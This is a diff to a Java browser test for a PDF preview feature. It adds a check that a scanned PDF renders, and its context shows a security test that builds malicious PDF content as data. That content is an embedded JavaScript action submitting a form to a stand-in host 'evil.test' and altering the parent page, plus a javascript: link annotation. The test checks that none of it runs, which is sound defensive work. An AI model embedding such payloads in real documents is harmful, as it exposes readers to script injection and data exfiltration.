@@ -59,6 +59,16 @@ class PdfPreviewTest extends ServedPages {
     }
 
     @Test
+    void whatAScannerMadeIsSeen() {
+        preview(PdfFile.scanned(), TO_SEE);
+        browser.untilText("#preview-0", "1 page");
+        browser.inFrame(FRAME, () -> {
+            browser.until("to see the picture", () -> colour(1, 0.3, 0.65) == 0);
+            assertEquals(0xFFFFFF, colour(1, 0.9, 0.9));
+        });
+    }
+
+    @Test
     void nothingThatTheFileHoldsRuns() {
         String script = "/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.test/'\\); parent.document.title = 'taken')";
         String link = "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:alert\\(2\\)) >> >>";
